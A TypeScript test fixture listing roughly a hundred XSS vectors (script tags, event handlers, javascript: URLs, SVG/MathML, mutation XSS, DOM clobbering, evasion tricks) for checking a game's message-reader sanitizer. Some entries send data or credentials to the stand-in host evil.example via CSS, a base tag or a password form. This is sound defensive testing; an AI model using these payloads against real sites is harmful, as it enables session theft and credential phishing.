/**
 * XSS vectors for the message reader: HTML that another player could send as a
 * message body. Each one tries to run code that touches the canary — `__xss` on the app's window
 * (`top.__xss` from frames) — or opens a dialog (`alert`, `confirm`, `prompt`), or to leave
 * something dangerous in the DOM (a `javascript:` link, a `<base>`, a form, a style that loads
 * a URL, an element that clobbers a global).
 *
 * Sources: the OWASP XSS Filter Evasion Cheat Sheet, the PortSwigger XSS cheat sheet, the
 * DOMPurify test fixtures (mutation XSS) and the HTML5 Security Cheatsheet.
 *
 * Used by tests/e2e/xss.spec.ts: every vector is sent through the real API and opened in the
 * reader in Chromium. A vector's `name` is unique and short (it becomes the message subject).
 */
export interface XssVector {
  /** Unique short label (the message subject). */
  name: string;
  /** What the vector tries. */
  family: 'script' | 'event' | 'url' | 'svg-mathml' | 'style' | 'structure' | 'frame' | 'mutation' | 'clobbering' | 'evasion';
  /** The message body. */
  html: string;
}

/** The code the vectors try to run: it sets the canary on the app's window. */
const RUN = 'top.__xss=1';
/** `javascript:alert(1)` as decimal entities (for attributes). */
const JS_DEC = [...'javascript:alert(1)'].map((c) => `&#${c.charCodeAt(0)};`).join('');
/** The same, as zero-padded decimal entities without semicolons (OWASP). */
const JS_DEC_PAD = [...'javascript:alert(1)'].map((c) => `&#${String(c.charCodeAt(0)).padStart(7, '0')}`).join('');
/** The same, as hex entities without semicolons. */
const JS_HEX = [...'javascript:alert(1)'].map((c) => `&#x${c.charCodeAt(0).toString(16)}`).join('');
/** A data: HTML page that would run code (base64 of `<script>alert(1)</script>`). */
const DATA_HTML_B64 = 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==';

export const XSS_VECTORS: XssVector[] = [
  // ── script tags ────────────────────────────────────────────────────────────────────────
  { name: 'script plain', family: 'script', html: `<script>${RUN};alert(1)</script>` },
  { name: 'script src', family: 'script', html: `<script src="data:text/javascript,${RUN}"></script>` },
  { name: 'script uppercase', family: 'script', html: `<SCRIPT>${RUN}</SCRIPT>` },
  { name: 'script malformed', family: 'evasion', html: `<SCRIPT/XSS SRC="data:,${RUN}"></SCRIPT>` },
  { name: 'script no close', family: 'evasion', html: `<<SCRIPT>${RUN};//<</SCRIPT>` },
  { name: 'script split', family: 'evasion', html: `<scr<script>ipt>${RUN}</scr</script>ipt>` },
  { name: 'script in comment', family: 'mutation', html: `<!--<script>${RUN}</script>-->` },
  { name: 'comment breakout', family: 'mutation', html: `<!-- --!><img src=x onerror="${RUN}"> -->` },

  // ── event handlers ─────────────────────────────────────────────────────────────────────
  { name: 'img onerror', family: 'event', html: `<img src=x onerror="${RUN}">` },
  { name: 'img onerror no quotes', family: 'evasion', html: `<IMG SRC=/ onerror=alert(1)>` },
  { name: 'img backtick', family: 'evasion', html: '<img src=x onerror=`alert(1)`>' },
  { name: 'img slash attr', family: 'evasion', html: `<img/src=x/onerror=${RUN}>` },
  { name: 'body onload', family: 'event', html: `<body onload="${RUN}">hola</body>` },
  { name: 'div onmouseover', family: 'event', html: `<div onmouseover="${RUN}" onclick="${RUN}">pasa por aquí</div>` },
  { name: 'p onfocus autofocus', family: 'event', html: `<p tabindex=1 autofocus onfocus="${RUN}">foco</p>` },
  { name: 'input autofocus', family: 'event', html: `<input autofocus onfocus="${RUN}">` },
  { name: 'details ontoggle', family: 'event', html: `<details open ontoggle="${RUN}"><summary>x</summary></details>` },
  { name: 'video source onerror', family: 'event', html: `<video><source onerror="${RUN}"></video>` },
  { name: 'audio onerror', family: 'event', html: `<audio src=x onerror="${RUN}"></audio>` },
  { name: 'marquee onstart', family: 'event', html: `<marquee onstart="${RUN}">x</marquee>` },
  { name: 'select autofocus', family: 'event', html: `<select autofocus onfocus="${RUN}"><option>x</option></select>` },
  { name: 'a onclick', family: 'event', html: `<a href="https://example.org" onclick="${RUN}" onmouseenter="${RUN}">enlace</a>` },
  { name: 'strong onanimationstart', family: 'event', html: `<strong style="animation-name:x" onanimationstart="${RUN}">x</strong>` },
  { name: 'handler entity', family: 'evasion', html: `<img src=x onerror="&#116;&#111;&#112;.__xss=1">` },

  // ── javascript:, data:, vbscript: URLs ──────────────────────────────────────────────────
  { name: 'a javascript', family: 'url', html: `<a href="javascript:${RUN}">clic</a>` },
  { name: 'a javascript case', family: 'url', html: `<a href="JaVaScRiPt:alert(1)">clic</a>` },
  { name: 'a javascript tab', family: 'evasion', html: `<a href="jav\tascript:alert(1)">clic</a>` },
  { name: 'a javascript newline', family: 'evasion', html: `<a href="jav&#x0A;ascript:alert(1)">clic</a>` },
  { name: 'a javascript entity tab', family: 'evasion', html: `<a href="jav&#x09;ascript:alert(1)">clic</a>` },
  { name: 'a javascript named tab', family: 'evasion', html: `<a href="java&Tab;script&colon;alert(1)">clic</a>` },
  { name: 'a javascript leading space', family: 'evasion', html: `<a href=" &#14;  javascript:alert(1)">clic</a>` },
  { name: 'a javascript decimal', family: 'evasion', html: `<a href="${JS_DEC}">clic</a>` },
  { name: 'a javascript padded', family: 'evasion', html: `<a href="${JS_DEC_PAD}">clic</a>` },
  { name: 'a javascript hex', family: 'evasion', html: `<a href="${JS_HEX}">clic</a>` },
  { name: 'a javascript null', family: 'evasion', html: `<a href="java\u0000script:alert(1)">clic</a>` },
  { name: 'a vbscript', family: 'url', html: `<a href="vbscript:msgbox(1)">clic</a>` },
  { name: 'a data html', family: 'url', html: `<a href="${DATA_HTML_B64}">clic</a>` },
  { name: 'a data svg', family: 'url', html: `<a href="data:image/svg+xml,<svg onload=alert(1)>">clic</a>` },
  { name: 'a relative', family: 'url', html: `<a href="/api/auth/logout/">salir</a> <a href="//evil.example/">evil</a>` },
  { name: 'a xlink', family: 'url', html: `<a xlink:href="javascript:alert(1)">clic</a>` },
  { name: 'img javascript src', family: 'url', html: `<img src="javascript:${RUN}">` },
  { name: 'a target top', family: 'url', html: `<a href="https://example.org" target="_self" rel="opener">abre</a>` },

  // ── SVG and MathML ─────────────────────────────────────────────────────────────────────
  { name: 'svg onload', family: 'svg-mathml', html: `<svg onload="${RUN}"></svg>` },
  { name: 'svg script', family: 'svg-mathml', html: `<svg><script>${RUN}</script></svg>` },
  { name: 'svg script href', family: 'svg-mathml', html: `<svg><script href="data:,${RUN}"/></svg>` },
  {
    name: 'svg animate href',
    family: 'svg-mathml',
    html: `<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>clic</text></a></svg>`,
  },
  { name: 'svg set onbegin', family: 'svg-mathml', html: `<svg><set attributeName=x onbegin="${RUN}"/></svg>` },
  { name: 'svg foreignObject', family: 'svg-mathml', html: `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>` },
  {
    name: 'svg use data',
    family: 'svg-mathml',
    html: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x"/></svg>`,
  },
  {
    name: 'math href',
    family: 'svg-mathml',
    html: `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">clic</maction></math>`,
  },
  {
    name: 'math mglyph style',
    family: 'mutation',
    html: `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  },
  { name: 'math mi xlink', family: 'svg-mathml', html: `<math><mi xlink:href="javascript:alert(1)">x</mi></math>` },

  // ── style and CSS exfiltration ──────────────────────────────────────────────────────────
  { name: 'style tag', family: 'style', html: `<style>body{background:url("https://evil.example/steal")}*{display:none}</style>texto` },
  { name: 'style attr url', family: 'style', html: `<div style="background:url(https://evil.example/a.png)">fondo</div>` },
  { name: 'style expression', family: 'style', html: `<div style="width: expression(alert(1));">ie</div>` },
  { name: 'style attr escape', family: 'evasion', html: `<div style="background:url(&quot;javascript:alert(1)&quot;)">x</div>` },
  {
    name: 'style overlay',
    family: 'style',
    html: `<div style="position:fixed;inset:0;z-index:99999;background:red">Tu sesión ha caducado</div>`,
  },
  {
    name: 'link stylesheet',
    family: 'style',
    html: `<link rel="stylesheet" href="https://evil.example/x.css"><link rel=import href="data:,x">`,
  },
  { name: 'style import', family: 'style', html: `<style>@import "https://evil.example/x.css";</style>` },

  // ── structure: base, form, meta, link ───────────────────────────────────────────────────
  { name: 'base href', family: 'structure', html: `<base href="https://evil.example/"><a href="x">rel</a>` },
  { name: 'base javascript', family: 'structure', html: `<base href="javascript:alert(1)//">` },
  {
    name: 'form action',
    family: 'structure',
    html: `<form action="https://evil.example/"><input name=password type=password><button>Entrar</button></form>`,
  },
  { name: 'button formaction', family: 'structure', html: `<form><button formaction="javascript:alert(1)">enviar</button></form>` },
  { name: 'input formaction', family: 'structure', html: `<input type=submit formaction="javascript:${RUN}" value=x>` },
  { name: 'isindex', family: 'structure', html: `<isindex type=image src=1 onerror="${RUN}">` },
  { name: 'meta refresh', family: 'structure', html: `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">` },
  { name: 'meta refresh data', family: 'structure', html: `<meta http-equiv="refresh" content="0;url=${DATA_HTML_B64}">` },
  { name: 'meta csp', family: 'structure', html: `<meta http-equiv="Content-Security-Policy" content="script-src *">` },

  // ── frames, objects, embeds ─────────────────────────────────────────────────────────────
  { name: 'iframe javascript', family: 'frame', html: `<iframe src="javascript:${RUN}"></iframe>` },
  { name: 'iframe srcdoc', family: 'frame', html: `<iframe srcdoc="<script>${RUN}</script>"></iframe>` },
  { name: 'iframe srcdoc entity', family: 'frame', html: `<iframe srcdoc="&lt;img src=x onerror=${RUN}&gt;"></iframe>` },
  { name: 'iframe data', family: 'frame', html: `<iframe src="${DATA_HTML_B64}"></iframe>` },
  { name: 'frameset', family: 'frame', html: `<frameset onload="${RUN}"><frame src="javascript:alert(1)"></frameset>` },
  { name: 'object data', family: 'frame', html: `<object data="javascript:alert(1)"></object>` },
  { name: 'object html', family: 'frame', html: `<object type="text/html" data="${DATA_HTML_B64}"></object>` },
  { name: 'embed src', family: 'frame', html: `<embed src="${DATA_HTML_B64}">` },
  {
    name: 'embed svg',
    family: 'frame',
    html: `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">`,
  },

  // ── mutation XSS (parsing differences) ──────────────────────────────────────────────────
  { name: 'noscript title', family: 'mutation', html: `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>` },
  { name: 'template', family: 'mutation', html: `<template><img src=x onerror="${RUN}"></template>` },
  { name: 'template nested', family: 'mutation', html: `<template><template><script>${RUN}</script></template></template>` },
  { name: 'noembed', family: 'mutation', html: `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>` },
  { name: 'noframes', family: 'mutation', html: `<noframes><p title="</noframes><img src=x onerror=${RUN}>"></noframes>` },
  { name: 'textarea', family: 'mutation', html: `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>` },
  { name: 'xmp', family: 'mutation', html: `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>` },
  { name: 'svg style', family: 'mutation', html: `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">` },
  {
    name: 'math style',
    family: 'mutation',
    html: `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${RUN}>"></style></mtext></svg></mglyph></h1></mtext></math>`,
  },
  { name: 'form nesting', family: 'mutation', html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>` },
  { name: 'table foster', family: 'mutation', html: `<table><a title="</table><img src=x onerror=${RUN}>">x</a></table>` },
  { name: 'cdata svg', family: 'mutation', html: `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>` },
  { name: 'plaintext', family: 'mutation', html: `<plaintext><img src=x onerror=${RUN}>` },

  // ── DOM clobbering ──────────────────────────────────────────────────────────────────────
  { name: 'clobber id', family: 'clobbering', html: `<a id="__xss" href="https://example.org">x</a><div id="root">falso</div>` },
  { name: 'clobber name', family: 'clobbering', html: `<img name="getElementById"><form name="location"></form><a name="cookie">x</a>` },
  {
    name: 'clobber collection',
    family: 'clobbering',
    html: `<a id="config"></a><a id="config" name="api" href="https://evil.example/">x</a>`,
  },
  {
    name: 'clobber class',
    family: 'clobbering',
    html: `<div class="sr-only" aria-hidden="true" data-testid="user-chip">Almirante Falso</div>`,
  },

  // ── nested and broken markup, filter evasion ────────────────────────────────────────────
  { name: 'unclosed img', family: 'evasion', html: `<img src="x" onerror="${RUN}"` },
  { name: 'quote breaking', family: 'evasion', html: `<img """><script>${RUN}</script>">` },
  { name: 'extraneous brackets', family: 'evasion', html: `<<img src=x onerror=${RUN}//<` },
  { name: 'nested a', family: 'evasion', html: `<a href="https://example.org"><a href="javascript:alert(1)">doble</a></a>` },
  { name: 'half open tags', family: 'evasion', html: `<b><i><u>texto <p>sin cerrar <a href="https://example.org">ok` },
  { name: 'attr no space', family: 'evasion', html: `<img src="x"onerror="${RUN}">` },
  { name: 'utf7', family: 'evasion', html: `+ADw-script+AD4-alert(1)+ADw-/script+AD4-` },
  { name: 'encoded lt', family: 'evasion', html: `&lt;script&gt;${RUN}&lt;/script&gt; \\x3cscript\\x3e` },
  { name: 'keygen', family: 'evasion', html: `<keygen autofocus onfocus="${RUN}">` },
  { name: 'html5 button', family: 'evasion', html: `<button autofocus onfocus="${RUN}">x</button>` },
  { name: 'bgsound', family: 'evasion', html: `<bgsound src="javascript:alert(1)"><layer src="javascript:alert(1)"></layer>` },
];
